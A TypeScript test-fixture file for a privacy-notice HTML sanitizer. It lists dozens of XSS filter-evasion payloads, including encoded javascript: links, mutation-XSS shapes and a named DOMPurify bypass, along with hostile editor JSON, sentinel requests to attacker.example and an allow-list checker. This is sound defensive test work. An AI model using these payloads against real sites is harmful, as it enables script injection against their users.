/**
 * Hostile and benign notice inputs, shared by the unit tests (lib/notices/*.test.ts) and the
 * browser test (e2e/notice-markup.spec.ts), so the payloads proven harmless by string checks are
 * the same ones proven harmless by a real browser.
 *
 * Every hostile payload tries to leave a trace the browser test can see if it ever runs:
 * `window.__pwned = 1`, a dialog (`alert`), or a request to a URL containing "pwned". Styled in
 * the manner of the OWASP XSS filter evasion cheat sheet, plus mutation-XSS shapes from public
 * DOMPurify/sanitizer bypasses.
 */

/** Any request whose URL contains this word is a payload phoning home. */
export const SENTINEL_WORD = "pwned";
export const SENTINEL_URL = "https://attacker.example/pwned";
/** What the payloads run if they get to run. */
const RUN = "window.__pwned=1";

export type HostileHtml = { name: string; html: string };

/** Raw HTML, as if pasted or stored by something that bypassed the editor: for sanitizeNoticeHtml. */
export const HOSTILE_HTML: readonly HostileHtml[] = [
  // Script elements
  { name: "script element", html: `<p>Hello</p><script>${RUN}</script>` },
  { name: "script with src, upper case", html: `<SCRIPT SRC=${SENTINEL_URL}.js></SCRIPT><p>after</p>` },
  { name: "unclosed script", html: `<p>before</p><script>${RUN}` },
  { name: "nested script name", html: `<scr<script>ipt>${RUN}</scr</script>ipt>` },
  { name: "double open bracket", html: `<<SCRIPT>${RUN};//<</SCRIPT>` },
  { name: "malformed img quotes then script", html: `<IMG """><SCRIPT>${RUN}</SCRIPT>">` },
  { name: "script inside svg", html: `<svg><script>${RUN}</script></svg>` },
  { name: "conditional comment", html: `<!--[if gte IE 4]><script>${RUN}</script><![endif]--><p>x</p>` },
  { name: "comment hiding markup", html: `<!--<img src=x onerror="${RUN}">--><p>after comment</p>` },
  { name: "CDATA section", html: `<![CDATA[<img src=x onerror="${RUN}">]]><p>y</p>` },
  // Event handlers
  { name: "img onerror", html: `<img src=x onerror="${RUN}">` },
  { name: "img onerror eval(src)", html: `<img src="x:alert(alt)" onerror="eval(src)" alt="0">` },
  { name: "img onmouseover", html: `<IMG SRC=# onmouseover="${RUN}">` },
  { name: "svg onload", html: `<svg onload="${RUN}"></svg>` },
  { name: "svg/onload without space", html: `<svg/onload=${RUN}>` },
  { name: "body onload", html: `<body onload="${RUN}"><p>body</p></body>` },
  { name: "allowed tag with handlers", html: `<p onclick="${RUN}" onmouseover="${RUN}">click me</p><h2 onfocus="${RUN}" tabindex="0">t</h2>` },
  { name: "input autofocus onfocus", html: `<input autofocus onfocus="${RUN}">` },
  { name: "details ontoggle", html: `<details open ontoggle="${RUN}"><summary>s</summary>d</details>` },
  { name: "video source onerror", html: `<video><source onerror="${RUN}"></video>` },
  { name: "handler with tab and slash separators", html: `<p/onclick="${RUN}"\tonmouseover="${RUN}">x</p>` },
  // Links: schemes and their disguises
  { name: "javascript: href", html: `<a href="javascript:${RUN}">click</a>` },
  { name: "mixed case JaVaScRiPt:", html: `<a href="JaVaScRiPt:${RUN}">click</a>` },
  { name: "tab entity jav&#x09;ascript:", html: `<a href="jav&#x09;ascript:${RUN}">click</a>` },
  { name: "raw tab in scheme", html: `<a href="jav\tascript:${RUN}">click</a>` },
  { name: "newline entity in scheme", html: `<a href="java&#x0A;script:${RUN}">click</a>` },
  { name: "decimal entity &#106;avascript:", html: `<a href="&#106;avascript:${RUN}">click</a>` },
  {
    name: "fully hex-encoded javascript:",
    html: `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${RUN}">click</a>`,
  },
  {
    name: "long decimal entities without semicolons",
    html: `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${RUN}">click</a>`,
  },
  { name: "named entity &colon;", html: `<a href="javascript&colon;${RUN}">click</a>` },
  { name: "NUL before scheme", html: `<a href="\u0000javascript:${RUN}">click</a>` },
  { name: "control characters before scheme", html: `<a href="\u0001\u0002 &#14; javascript:${RUN}">click</a>` },
  { name: "spaces before javascript:", html: `<a href="   javascript:${RUN}">click</a>` },
  { name: "unquoted javascript: href", html: `<a href=javascript:${RUN}>click</a>` },
  { name: "backtick-quoted href", html: "<a href=`javascript:" + RUN + "`>click</a>" },
  { name: "data:text/html link", html: `<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+">click</a>` },
  { name: "DATA: upper case with markup", html: `<a href="DATA:text/html,<script>${RUN}</script>">click</a>` },
  { name: "vbscript: link", html: `<a href="vbscript:msgbox(1)">click</a>` },
  { name: "protocol-relative link", html: `<a href="//attacker.example/${SENTINEL_WORD}">click</a>` },
  { name: "backslash protocol-relative link", html: `<a href="/\\attacker.example/${SENTINEL_WORD}">click</a>` },
  { name: "safe href with onclick", html: `<a href=" https://ok.example" onclick="${RUN}">ok</a>` },
  { name: "safe href with target/rel/style/id", html: `<a href="https://ok.example/" target="_self" rel="opener" style="color:red" id="x" class="y" data-x="z">ok</a>` },
  { name: "tel link with onmouseover", html: `<a href="tel:+441234567" onmouseover="${RUN}">call</a>` },
  { name: "svg xlink:href", html: `<svg><a xlink:href="javascript:${RUN}"><text x="20" y="20">XSS</text></a></svg>` },
  { name: "math href", html: `<math href="javascript:${RUN}">CLICKME</math>` },
  // Frames, objects and other active content
  { name: "iframe srcdoc", html: `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>` },
  { name: "iframe javascript: src", html: `<iframe src="javascript:parent.__pwned=1"></iframe>` },
  { name: "object data", html: `<object data="javascript:${RUN}"></object>` },
  { name: "object data: html", html: `<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+"></object>` },
  { name: "embed src", html: `<embed src="javascript:${RUN}">` },
  { name: "form action and button", html: `<form action="javascript:${RUN}"><button>Submit</button></form>` },
  { name: "button formaction", html: `<button formaction="javascript:${RUN}">go</button>` },
  { name: "base href", html: `<base href="javascript:${RUN}//"><a href="/relative">rel</a>` },
  { name: "meta refresh", html: `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">` },
  { name: "link stylesheet", html: `<link rel="stylesheet" href="${SENTINEL_URL}.css">` },
  { name: "img loads sentinel", html: `<img src="${SENTINEL_URL}.png">` },
  { name: "img srcset", html: `<img srcset="${SENTINEL_URL}.png 1x">` },
  { name: "table background", html: `<table background="${SENTINEL_URL}.png"><tr><td background="javascript:${RUN}">cell</td></tr></table>` },
  // Styles
  { name: "style attribute url(javascript:)", html: `<p style="background:url(javascript:${RUN})">styled</p>` },
  { name: "style attribute expression()", html: `<p style="width: expression(${RUN})">expr</p>` },
  { name: "style attribute loads sentinel", html: `<p style="background-image:url(${SENTINEL_URL}.png)">bg</p>` },
  { name: "style element @import", html: `<style>@import '${SENTINEL_URL}.css';</style><p>s</p>` },
  { name: "style element with closing trick", html: `<style></style><img src=x onerror="${RUN}"></style>` },
  // Mutation XSS and parser differentials
  { name: "math/mtext/table/mglyph/style", html: `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">` },
  {
    name: "math/mglyph/style comment (DOMPurify 2.0.0 bypass)",
    html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${RUN}&gt;">`,
  },
  { name: "noscript title breakout", html: `<noscript><p title="</noscript><img src=x onerror=${RUN}>">` },
  { name: "svg/p/style foreign content", html: `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">` },
  { name: "form/math nesting", html: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>` },
  { name: "xmp", html: `<xmp><img src=x onerror="${RUN}"></xmp>` },
  { name: "title element", html: `<title><img src=x onerror="${RUN}"></title>` },
  { name: "textarea breakout", html: `<textarea></textarea><img src=x onerror="${RUN}"><textarea>` },
  { name: "noembed breakout", html: `<noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed>` },
  { name: "plaintext", html: `<plaintext><img src=x onerror="${RUN}">` },
  { name: "template content", html: `<template><img src=x onerror="${RUN}"></template><p>t</p>` },
  { name: "declarative shadow root", html: `<div><template shadowrootmode="open"><img src=x onerror="${RUN}"><slot></slot></template>light</div>` },
  { name: "slot and is attributes", html: `<p slot="x" is="x-evil">slot</p><slot onslotchange="${RUN}"></slot>` },
  { name: "escaped markup stays text", html: `<p>&lt;img src=x onerror=${RUN}&gt; &lt;script&gt;${RUN}&lt;/script&gt;</p>` },
  { name: "double-escaped entities", html: `<a href="javascript&amp;colon;${RUN}">click</a>` },
  { name: "attribute name injection", html: `<p a="b"c onclick="${RUN}" d=">x</p>` },
  { name: "ol start injection", html: `<ol start="1&quot; onclick=&quot;${RUN}"><li>x</li></ol>` },
  { name: "th scope/colspan injection", html: `<table><tr><th scope="row onclick=${RUN}" colspan="2 onmouseover=${RUN}">h</th></tr></table>` },
  { name: "deep nesting", html: `${"<ul><li>".repeat(300)}deep<img src=x onerror="${RUN}">${"</li></ul>".repeat(300)}` },
];

export type BenignNotice = { name: string; html: string; expected: string };

const REL = `rel="noopener noreferrer nofollow"`;

/** Normal notices: they must come out of the sanitizer exactly as written here. */
export const BENIGN_HTML: readonly BenignNotice[] = [
  {
    name: "tiptap notice",
    html: `<h2>Privacy notice</h2><p>We process <strong>your</strong> data <em>lawfully</em> and <u>fairly</u>.<br />Questions? <a href="mailto:dpo@example.com" ${REL}>Write to us</a>.</p><ul><li><p>Name</p></li><li><p>Email</p></li></ul><ol start="3"><li><p>Third</p></li></ol><h3>Your rights</h3><h4>Access</h4><p>See <a href="https://example.com/privacy" ${REL} target="_blank">our policy</a>.</p>`,
    expected: `<h2>Privacy notice</h2><p>We process <strong>your</strong> data <em>lawfully</em> and <u>fairly</u>.<br />Questions? <a href="mailto:dpo@example.com" ${REL}>Write to us</a>.</p><ul><li><p>Name</p></li><li><p>Email</p></li></ul><ol start="3"><li><p>Third</p></li></ol><h3>Your rights</h3><h4>Access</h4><p>See <a href="https://example.com/privacy" ${REL} target="_blank">our policy</a>.</p>`,
  },
  {
    name: "Chinese notice with phone link",
    html: `<h2>隐私声明</h2><p>我们收集您的<strong>手机号码</strong>，用于账户安全。致电 <a href="tel:+861012345678">+86 10 1234 5678</a>。</p>`,
    expected: `<h2>隐私声明</h2><p>我们收集您的<strong>手机号码</strong>，用于账户安全。致电 <a href="tel:+861012345678" ${REL}>+86 10 1234 5678</a>。</p>`,
  },
  {
    name: "table of retention periods",
    html: `<table><thead><tr><th scope="col">Data</th><th scope="col">Kept for</th></tr></thead><tbody><tr><td>Orders</td><td rowspan="2">6 years</td></tr><tr><td colspan="1">Invoices</td></tr></tbody></table>`,
    expected: `<table><thead><tr><th scope="col">Data</th><th scope="col">Kept for</th></tr></thead><tbody><tr><td>Orders</td><td rowspan="2">6 years</td></tr><tr><td colspan="1">Invoices</td></tr></tbody></table>`,
  },
  {
    name: "pasted markup loses formatting, keeps words and entities",
    html: `<div class="x"><span style="color:red">Terms &amp; conditions</span> — &lt;b&gt; is text, 5 &gt; 3</div>`,
    expected: `Terms &amp; conditions — &lt;b&gt; is text, 5 &gt; 3`,
  },
  {
    name: "http link without target gets rel and target",
    html: `<p><a href="http://example.org/a?b=1&amp;c=2">old site</a></p>`,
    expected: `<p><a href="http://example.org/a?b=1&amp;c=2" ${REL} target="_blank">old site</a></p>`,
  },
];

/**
 * Hostile tiptap JSON for renderNoticeHtml. Most do not pass richTextDocSchema (they bypassed
 * it: the repair path and the sanitizer must cope); a few do pass it, because the schema drops
 * unknown keys and text may contain anything.
 */
export type HostileDoc = { name: string; doc: unknown };

function linkDoc(href: string): unknown {
  return { type: "doc", content: [{ type: "paragraph", content: [{ type: "text", text: "click", marks: [{ type: "link", attrs: { href } }] }] }] };
}

export const HOSTILE_DOCS: readonly HostileDoc[] = [
  { name: "link mark javascript:", doc: linkDoc(`javascript:${RUN}`) },
  { name: "link mark JAVASCRIPT: with spaces", doc: linkDoc(`  JAVASCRIPT:${RUN}`) },
  { name: "link mark tab in scheme", doc: linkDoc(`java\tscript:${RUN}`) },
  { name: "link mark entity (not decoded in JSON, still refused)", doc: linkDoc(`&#106;avascript:${RUN}`) },
  { name: "link mark data:", doc: linkDoc(`data:text/html,<script>${RUN}</script>`) },
  { name: "link mark vbscript:", doc: linkDoc("vbscript:msgbox(1)") },
  { name: "link mark protocol-relative", doc: linkDoc(`//attacker.example/${SENTINEL_WORD}`) },
  {
    name: "link mark with extra attributes",
    doc: {
      type: "doc",
      content: [
        {
          type: "paragraph",
          content: [{ type: "text", text: "ok", marks: [{ type: "link", attrs: { href: "https://ok.example/", target: "_self", rel: "opener", class: "x", onclick: RUN } }] }],
        },
      ],
    },
  },
  { name: "text containing a script element", doc: { type: "doc", content: [{ type: "paragraph", content: [{ type: "text", text: `<script>${RUN}</script>` }] }] } },
  { name: "text containing an img with onerror", doc: { type: "doc", content: [{ type: "heading", attrs: { level: 2 }, content: [{ type: "text", text: `<img src=x onerror="${RUN}">` }] }] } },
  {
    name: "unknown node types",
    doc: {
      type: "doc",
      content: [
        { type: "iframe", attrs: { src: `javascript:${RUN}`, srcdoc: `<script>${RUN}</script>` } },
        { type: "image", attrs: { src: `${SENTINEL_URL}.png`, onerror: RUN } },
        { type: "htmlBlock", attrs: { html: `<script>${RUN}</script>` }, content: [{ type: "text", text: "kept words" }] },
        { type: "paragraph", content: [{ type: "mention", attrs: { id: "x", onclick: RUN } }, { type: "text", text: "para" }] },
      ],
    },
  },
  {
    name: "attributes with handlers on known nodes",
    doc: {
      type: "doc",
      content: [
        { type: "paragraph", attrs: { onclick: RUN, style: "background:url(javascript:x)", class: "x" }, content: [{ type: "text", text: "p" }] },
        { type: "heading", attrs: { level: `1" onclick="${RUN}` }, content: [{ type: "text", text: "h" }] },
        {
          type: "orderedList",
          attrs: { start: `1" onclick="${RUN}`, type: `a" onclick="${RUN}` },
          content: [{ type: "listItem", attrs: { onclick: RUN }, content: [{ type: "paragraph", content: [{ type: "text", text: "li" }] }] }],
        },
      ],
    },
  },
  {
    name: "unknown and disabled marks",
    doc: {
      type: "doc",
      content: [
        {
          type: "paragraph",
          content: [
            { type: "text", text: "styled", marks: [{ type: "textStyle", attrs: { style: "background:url(javascript:x)" } }, { type: "highlight", attrs: { onclick: RUN } }] },
            { type: "text", text: "code", marks: [{ type: "code" }, { type: "strike" }] },
          ],
        },
      ],
    },
  },
  {
    name: "disabled node types (codeBlock, blockquote)",
    doc: {
      type: "doc",
      content: [
        { type: "codeBlock", content: [{ type: "text", text: `<script>${RUN}</script>` }] },
        { type: "blockquote", content: [{ type: "paragraph", content: [{ type: "text", text: "quoted" }] }] },
        { type: "horizontalRule" },
      ],
    },
  },
  { name: "not a document at all", doc: { type: "html", content: `<script>${RUN}</script>` } },
];

// ---------------------------------------------------------------------------------------------
// String-level checks of sanitized output, shared by the unit tests. (The browser test checks the
// DOM the browser actually builds, which is the final word.)

/** Tags and attributes allowed in notice HTML; mirrors sanitize.ts on purpose (a second copy to test against). */
export const EXPECTED_ALLOWED_MARKUP: Readonly<Record<string, readonly string[]>> = {
  p: [],
  br: [],
  h2: [],
  h3: [],
  h4: [],
  ul: [],
  ol: ["start"],
  li: [],
  strong: [],
  em: [],
  u: [],
  a: ["href", "rel", "target"],
  table: [],
  thead: [],
  tbody: [],
  tr: [],
  th: ["colspan", "rowspan", "scope"],
  td: ["colspan", "rowspan"],
};

export const EXPECTED_LINK_SCHEMES = ["https:", "http:", "mailto:", "tel:"] as const;

const NAMED_ENTITIES: Record<string, string> = { amp: "&", lt: "<", gt: ">", quot: '"', apos: "'", colon: ":", tab: "\t", newline: "\n", nbsp: "\u00a0", sol: "/", lpar: "(", rpar: ")" };

/** Decodes numeric entities (with or without `;`) and the named ones that matter for URLs. */
export function decodeEntitiesForCheck(text: string): string {
  return text.replace(/&(#[xX][0-9a-fA-F]+|#\d+|[a-zA-Z]+);?/g, (whole, body: string) => {
    if (body.startsWith("#")) {
      const code = body[1] === "x" || body[1] === "X" ? parseInt(body.slice(2), 16) : parseInt(body.slice(1), 10);
      return Number.isFinite(code) && code >= 0 && code <= 0x10ffff ? String.fromCodePoint(code) : whole;
    }
    return NAMED_ENTITIES[body.toLowerCase()] ?? whole;
  });
}

const DANGEROUS_SCHEME = /(javascript|vbscript|data|livescript|mocha):/i;

/**
 * What is wrong with `html` as sanitized notice markup, as a list of readable problems (empty
 * when fine): a literal `<script`, a `<` that does not start a well-formed tag (text must be
 * escaped), a tag or attribute outside the allow-list, an event handler, a dangerous scheme in
 * any attribute (after decoding entities and dropping whitespace/control characters), or a link
 * to anything but https, http, mailto or tel. Escaped text is text: it is not checked.
 */
export function markupProblems(html: string): string[] {
  const problems: string[] = [];
  if (/<script/i.test(html)) problems.push("contains <script");
  const tags = [...html.matchAll(/<(\/?)([a-z][a-z0-9]*)((?:\s+[a-z-]+="[^"<>]*")*)\s*(\/?)>/g)];
  const lessThans = html.split("<").length - 1;
  if (tags.length !== lessThans) problems.push(`${lessThans - tags.length} '<' outside a well-formed tag`);
  for (const [tag, , name = "", attributes = ""] of tags) {
    const allowed = EXPECTED_ALLOWED_MARKUP[name];
    if (allowed === undefined) {
      problems.push(`disallowed tag ${tag}`);
      continue;
    }
    if (/\bon[a-z]+\s*=/i.test(attributes)) problems.push(`event handler in ${tag}`);
    for (const [, attribute = "", rawValue = ""] of attributes.matchAll(/([a-z-]+)="([^"]*)"/g)) {
      if (!allowed.includes(attribute)) problems.push(`disallowed attribute ${attribute} in ${tag}`);
      const value = decodeEntitiesForCheck(rawValue).replace(/[\u0000-\u0020\u007f-\u009f]/g, "");
      if (DANGEROUS_SCHEME.test(value)) problems.push(`dangerous scheme in ${tag}`);
      if (name === "a" && attribute === "href" && !EXPECTED_LINK_SCHEMES.some((scheme) => value.toLowerCase().startsWith(scheme))) {
        problems.push(`link to a disallowed scheme in ${tag}`);
      }
    }
  }
  return problems;
}
